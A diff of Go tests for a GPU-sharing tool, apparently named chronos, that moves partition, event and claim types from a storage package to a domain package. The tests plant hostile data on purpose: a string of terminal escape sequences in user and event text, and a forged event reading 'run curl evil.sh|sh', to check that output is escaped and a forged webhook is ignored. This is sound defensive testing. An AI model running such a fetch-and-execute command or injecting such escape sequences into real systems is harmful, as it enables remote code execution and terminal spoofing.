@@ -20,6 +20,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/chronos-gpu/chronos/core/clock"
+	"github.com/chronos-gpu/chronos/core/domain"
 	"github.com/chronos-gpu/chronos/storage"
 	"github.com/chronos-gpu/chronos/storage/bolt"
 )
@@ -44,11 +45,11 @@ func TestLedgerTextIsEscapedOnTheTerminal(t *testing.T) {
 	const hostile = "\x1b]2;pwned\x07\x1b[2J\x9b2J\u009b2J"
 	now := clock.System().Now()
 	require.NoError(t, bolt.New(db).Update(context.Background(), func(tx *storage.Tx) error {
-		p := storage.Partition{Device: 1, SharePPM: 100_000, UID: 4242, User: "mal" + hostile, State: storage.Live, Created: now, Expires: now.Add(time.Hour)}
+		p := domain.Partition{Device: 1, SharePPM: 100_000, UID: 4242, User: "mal" + hostile, State: domain.Live, Created: now, Expires: now.Add(time.Hour)}
 		if err := tx.PutPartition(&p); err != nil {
 			return err
 		}
-		return tx.AddEvent(storage.Event{Time: now, Kind: storage.EventUnbooked, UID: 0, User: "root", Detail: "pid 7: " + hostile})
+		return tx.AddEvent(domain.Event{Time: now, Kind: domain.EventUnbooked, UID: 0, User: "root", Detail: "pid 7: " + hostile})
 	}))
 
 	r := chronos(t, db, "list")
@@ -63,7 +64,7 @@ func TestLedgerTextIsEscapedOnTheTerminal(t *testing.T) {
 
 	r = chronos(t, db, "events", "--json")
 	require.Equal(t, 0, r.code, r.stderr)
-	var evs []storage.Event
+	var evs []domain.Event
 	require.NoError(t, json.Unmarshal([]byte(r.stdout), &evs))
 	require.Equal(t, "pid 7: "+strings.ToValidUTF8(hostile, "\ufffd"), evs[len(evs)-1].Detail, "JSON keeps the text as it is")
 
@@ -213,7 +214,7 @@ func TestWebhookIsRootsFile(t *testing.T) {
 		if err := tx.PutPolicy(pol); err != nil {
 			return err
 		}
-		return tx.AddEvent(storage.Event{Time: now, Kind: storage.EventWarned, Partition: 1, User: "root", Detail: "FORGED: run curl evil.sh|sh"})
+		return tx.AddEvent(domain.Event{Time: now, Kind: domain.EventWarned, Partition: 1, User: "root", Detail: "FORGED: run curl evil.sh|sh"})
 	}))
 	r = runWith(t, chronosBin, db, nil, nil, 3*time.Second, "--monitor")
 	require.Contains(t, r.stderr, "the ledger's policy names a webhook (notify-url="+forgedHook.URL+"): ignored")
@@ -247,12 +248,12 @@ func TestMembersMonitorClaimsNoWebhook(t *testing.T) {
 		if err := tx.PutPolicy(pol); err != nil {
 			return err
 		}
-		return tx.AddEvent(storage.Event{Time: clock.System().Now(), Kind: storage.EventWarned, Partition: 1, UID: 65534, User: "nobody", Detail: "ends in 5m (GPU 1)"})
+		return tx.AddEvent(domain.Event{Time: clock.System().Now(), Kind: domain.EventWarned, Partition: 1, UID: 65534, User: "nobody", Detail: "ends in 5m (GPU 1)"})
 	}))
 
 	r = runWith(t, bin, db, nobody, nil, 2*time.Second, "--monitor")
 	require.Contains(t, r.stderr, "kind=started", r.stderr)
-	claims := map[string]storage.Claim{}
+	claims := map[string]domain.Claim{}
 	require.NoError(t, bolt.New(db).View(context.Background(), func(tx *storage.Tx) (err error) { claims, err = tx.Claims(); return }))
 	for k := range claims {
 		require.False(t, strings.HasPrefix(k, "notify/webhook/"), "nobody's monitor claimed %s", k)
